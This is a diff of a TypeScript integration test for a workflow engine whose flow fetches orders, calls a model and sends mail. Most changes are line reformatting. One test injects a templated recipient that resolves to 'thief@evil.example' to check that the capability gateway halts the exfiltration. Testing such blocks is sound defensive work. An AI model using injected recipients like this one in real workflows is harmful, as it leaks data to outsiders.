@@ -34,7 +34,12 @@ beforeAll(async () => {
   const connections: Record<string, BoundConnection> = {
     api: { hosts: ['api.test.example'], auth: { type: 'bearer', secret: apiToken }, ...inside },
     model: { hosts: ['model.test.example'], auth: { type: 'bearer', secret: modelToken }, ...inside },
-    mail: { hosts: ['mail.test.example'], auth: { type: 'login', username: 'sender', secret: mailPassword }, server: { host: 'mail.test.example', port: mail.port, security: 'starttls' }, ...inside },
+    mail: {
+      hosts: ['mail.test.example'],
+      auth: { type: 'login', username: 'sender', secret: mailPassword },
+      server: { host: 'mail.test.example', port: mail.port, security: 'starttls' },
+      ...inside,
+    },
   };
   runtime = testRuntime({ connections, names });
   await runtime.engine.open();
@@ -45,15 +50,44 @@ afterAll(async () => {
   authority.remove();
 });
 
-const wholeFlow = (to = 'team@shop.example') => flowOf([
-  node('start', 'manual-trigger'),
-  node('orders', 'http-request', { url: `https://api.test.example:${api.port}/v1/orders` }, { connection: 'api' }),
-  node('pick', 'script', { code: 'return input.flatMap((answer) => answer).map(({ id, note }) => ({ id, note: note.toUpperCase() }))', mode: 'all' }),
-  node('ask', 'model-call', { provider: 'custom', baseUrl: `https://model.test.example:${modelHost.port}/v1`, model: 'small-2026-01-01', system: 'Summarise.', prompt: 'Order {{input.id}}: {{input.note}}', maxTokens: 50 }, { connection: 'model', retry: { maxAttempts: 3, backoffMs: 10 } }),
-  node('tell', 'send-mail', { from: 'flow@shop.example', to, subject: 'Order {{input.id}}', text: '{{input.answer}}', allowedRecipients: 'team@shop.example' }, { connection: 'mail' }),
-], ['start -> orders', 'orders -> pick', 'pick -> ask', 'ask -> tell'], {
-  connections: [slot('api', [`api.test.example:${api.port}`]), slot('model', [`model.test.example:${modelHost.port}`]), slot('mail', [`mail.test.example:${mail.port}`], 'smtp')],
-});
+const wholeFlow = (to = 'team@shop.example') =>
+  flowOf(
+    [
+      node('start', 'manual-trigger'),
+      node('orders', 'http-request', { url: `https://api.test.example:${api.port}/v1/orders` }, { connection: 'api' }),
+      node('pick', 'script', {
+        code: 'return input.flatMap((answer) => answer).map(({ id, note }) => ({ id, note: note.toUpperCase() }))',
+        mode: 'all',
+      }),
+      node(
+        'ask',
+        'model-call',
+        {
+          provider: 'custom',
+          baseUrl: `https://model.test.example:${modelHost.port}/v1`,
+          model: 'small-2026-01-01',
+          system: 'Summarise.',
+          prompt: 'Order {{input.id}}: {{input.note}}',
+          maxTokens: 50,
+        },
+        { connection: 'model', retry: { maxAttempts: 3, backoffMs: 10 } },
+      ),
+      node(
+        'tell',
+        'send-mail',
+        { from: 'flow@shop.example', to, subject: 'Order {{input.id}}', text: '{{input.answer}}', allowedRecipients: 'team@shop.example' },
+        { connection: 'mail' },
+      ),
+    ],
+    ['start -> orders', 'orders -> pick', 'pick -> ask', 'ask -> tell'],
+    {
+      connections: [
+        slot('api', [`api.test.example:${api.port}`]),
+        slot('model', [`model.test.example:${modelHost.port}`]),
+        slot('mail', [`mail.test.example:${mail.port}`], 'smtp'),
+      ],
+    },
+  );
 
 async function run(flow = wholeFlow(), dryRun = false) {
   runtime.events.length = 0;
@@ -65,14 +99,48 @@ async function run(flow = wholeFlow(), dryRun = false) {
 describe('a flow from trigger to mail', () => {
   test('fetches, thinks, asks and sends, each under its grant, with every request in the gateway log', async () => {
     const { run: record, output } = await run();
-    expect([record.status, record.steps, record.tokens > 0, output]).toEqual(['succeeded', 5, true, [{ id: 7, note: 'PARCEL IS LATE', answer: 'A friendly summary.', messageId: expect.stringMatching(/^<[0-9a-f]{40}@shop\.example>$/) }]]);
-    expect(model.requests.at(-1)).toMatchObject({ model: 'small-2026-01-01', max_tokens: 50, messages: [{ role: 'system', content: 'Summarise.' }, { role: 'user', content: 'Order 7: PARCEL IS LATE' }] });
-    expect(mail.mails).toEqual([{ from: 'flow@shop.example', to: ['team@shop.example'], secure: true, text: expect.stringContaining('A friendly summary.') }]);
-    expect(runtime.gateway.map(({ kind, decision, destination, connection, nodeId, address }) => [kind, decision, destination, connection, nodeId, address])).toEqual([
-      ['http', 'allowed', 'api.test.example', 'api', 'orders', '127.0.0.1'], ['model', 'allowed', 'model.test.example', 'model', 'ask', '127.0.0.1'], ['mail', 'allowed', 'mail.test.example', 'mail', 'tell', '127.0.0.1'],
+    expect([record.status, record.steps, record.tokens > 0, output]).toEqual([
+      'succeeded',
+      5,
+      true,
+      [
+        {
+          id: 7,
+          note: 'PARCEL IS LATE',
+          answer: 'A friendly summary.',
+          messageId: expect.stringMatching(/^<[0-9a-f]{40}@shop\.example>$/),
+        },
+      ],
+    ]);
+    expect(model.requests.at(-1)).toMatchObject({
+      model: 'small-2026-01-01',
+      max_tokens: 50,
+      messages: [
+        { role: 'system', content: 'Summarise.' },
+        { role: 'user', content: 'Order 7: PARCEL IS LATE' },
+      ],
+    });
+    expect(mail.mails).toEqual([
+      { from: 'flow@shop.example', to: ['team@shop.example'], secure: true, text: expect.stringContaining('A friendly summary.') },
+    ]);
+    expect(
+      runtime.gateway.map(({ kind, decision, destination, connection, nodeId, address }) => [
+        kind,
+        decision,
+        destination,
+        connection,
+        nodeId,
+        address,
+      ]),
+    ).toEqual([
+      ['http', 'allowed', 'api.test.example', 'api', 'orders', '127.0.0.1'],
+      ['model', 'allowed', 'model.test.example', 'model', 'ask', '127.0.0.1'],
+      ['mail', 'allowed', 'mail.test.example', 'mail', 'tell', '127.0.0.1'],
     ]);
     expect(runtime.events.map((event) => ('nodeId' in event ? `${event.type} ${event.nodeId}` : event.type))).toEqual([
-      'run.started', ...['start', 'orders', 'pick', 'ask', 'tell'].flatMap((id) => [`step.started ${id}`, `step.succeeded ${id}`]), 'run.succeeded',
+      'run.started',
+      ...['start', 'orders', 'pick', 'ask', 'tell'].flatMap((id) => [`step.started ${id}`, `step.succeeded ${id}`]),
+      'run.succeeded',
     ]);
   });
 
@@ -81,7 +149,9 @@ describe('a flow from trigger to mail', () => {
     const spy = modelServer(() => replies.shift() ?? 'more', modelToken);
     const server = await httpsServer(authority.issue('model.test.example'), spy.handler);
     const flow = wholeFlow();
-    const nodes = flow.nodes.map((one) => (one.id === 'ask' ? { ...one, parameters: { ...one.parameters, baseUrl: `https://model.test.example:${server.port}/v1` } } : one));
+    const nodes = flow.nodes.map((one) =>
+      one.id === 'ask' ? { ...one, parameters: { ...one.parameters, baseUrl: `https://model.test.example:${server.port}/v1` } } : one,
+    );
     const { run: record } = await run({ ...flow, nodes });
     await server.close();
     expect([record.status, record.retries, spy.requests.length]).toEqual(['succeeded', 2, 3]);
@@ -91,7 +161,12 @@ describe('a flow from trigger to mail', () => {
     const before = mail.mails.length;
     const { run: record } = await run(wholeFlow('{{ input.note == "" ? "" : "thief@evil.example" }}'));
     const last = runtime.events.at(-1);
-    expect([record.status, record.error?.code, mail.mails.length - before, last?.type === 'run.halted' ? last.evidence : last]).toEqual(['halted', 'halted/capability', 0, { node: 'tell', recipient: '…@evil.example' }]);
+    expect([record.status, record.error?.code, mail.mails.length - before, last?.type === 'run.halted' ? last.evidence : last]).toEqual([
+      'halted',
+      'halted/capability',
+      0,
+      { node: 'tell', recipient: '…@evil.example' },
+    ]);
   });
 
   test('a budget ends the run before the call', async () => {
@@ -105,12 +180,22 @@ describe('a flow from trigger to mail', () => {
     const flow = wholeFlow();
     const nodes = flow.nodes.map((one) => (one.id === 'orders' ? { ...one, sample: [{ id: 1, note: 'n' }] } : one));
     const { run: record } = await run({ ...flow, nodes }, true);
-    const would = runtime.events.flatMap((event) => (event.type === 'step.would' ? [[event.nodeId, event.effect.kind, event.effect.method, event.effect.destination, event.effect.allowed]] : []));
-    expect([record.status, record.dryRun, would, [model.requests.length, mail.mails.length], runtime.gateway]).toEqual(['succeeded', true, [
-      ['orders', 'http', 'GET', `api.test.example:${api.port}/v1/orders`, true],
-      ['ask', 'model', 'POST', `small-2026-01-01 at model.test.example:${modelHost.port}/v1/chat/completions`, true],
-      ['tell', 'mail', 'SEND', '…@shop.example', true],
-    ], before, []]);
+    const would = runtime.events.flatMap((event) =>
+      event.type === 'step.would'
+        ? [[event.nodeId, event.effect.kind, event.effect.method, event.effect.destination, event.effect.allowed]]
+        : [],
+    );
+    expect([record.status, record.dryRun, would, [model.requests.length, mail.mails.length], runtime.gateway]).toEqual([
+      'succeeded',
+      true,
+      [
+        ['orders', 'http', 'GET', `api.test.example:${api.port}/v1/orders`, true],
+        ['ask', 'model', 'POST', `small-2026-01-01 at model.test.example:${modelHost.port}/v1/chat/completions`, true],
+        ['tell', 'mail', 'SEND', '…@shop.example', true],
+      ],
+      before,
+      [],
+    ]);
   });
 
   test('what people see is masked; what the run keeps is forgotten when it ends', async () => {
